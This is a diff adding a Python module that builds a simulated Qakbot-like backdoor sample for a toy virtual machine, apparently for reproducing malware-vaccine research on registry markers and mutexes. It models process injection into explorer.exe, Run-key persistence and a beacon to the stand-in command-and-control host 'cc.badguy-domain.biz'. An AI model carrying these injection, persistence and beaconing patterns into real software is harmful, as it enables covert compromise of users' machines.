@@ -1,0 +1,60 @@
+"""Qakbot analogue (backdoor with a registry infection marker).
+
+Table VII credits Qakbot with two *registry* vaccines at 100% variant
+coverage: the marker key is checked before the banking/beacon logic and the
+config key feeds persistence.  A partial-static mutex (random numeric field
+inside a static skeleton) exercises the regex-vaccine path.
+"""
+
+from __future__ import annotations
+
+from ..builder import (
+    AsmBuilder,
+    frag_beacon,
+    frag_check_registry_marker,
+    frag_create_mutex,
+    frag_create_registry_marker,
+    frag_exit,
+    frag_inject_process,
+    frag_partial_static_name,
+    frag_persist_run_key,
+)
+
+FAMILY = "qakbot"
+CATEGORY = "backdoor"
+
+MARKER_KEY = "hklm\\software\\microsoft\\sqinstalled"
+CONFIG_KEY = "hklm\\software\\microsoft\\sqconfig"
+
+
+def build(variant: int = 0) -> "Program":
+    b = AsmBuilder(f"{FAMILY}_v{variant}" if variant else FAMILY)
+
+    infected = b.unique("infected")
+    frag_check_registry_marker(b, MARKER_KEY, infected)
+    frag_create_registry_marker(b, MARKER_KEY)
+    frag_create_registry_marker(b, CONFIG_KEY)
+
+    # Partial-static single-instance mutex "qbot-<rand>-lk": the sample
+    # mishandles creation failure and aborts (paper: "Some malware has
+    # issues in handling the failure of certain system resource access").
+    mtx_buf = b.buffer(48)
+    frag_partial_static_name(b, mtx_buf, prefix_fmt="qbot-%x-lk")
+    bail = b.unique("bail")
+    frag_create_mutex(b, buffer_label=mtx_buf)
+    b.emit("    test eax, eax", f"    jz {bail}")
+
+    frag_inject_process(b, "explorer.exe")
+    frag_persist_run_key(b, "qbotsvc", "c:\\windows\\system32\\qbot.exe")
+    frag_beacon(b, "cc.badguy-domain.biz", rounds=4, payload="QBOT")
+    b.emit("    halt")
+
+    b.label(bail)
+    frag_exit(b, 3)
+
+    b.label(infected)
+    frag_exit(b, 0)
+    return b.build(family=FAMILY, category=CATEGORY, variant=variant)
+
+
+from ...vm.program import Program  # noqa: E402
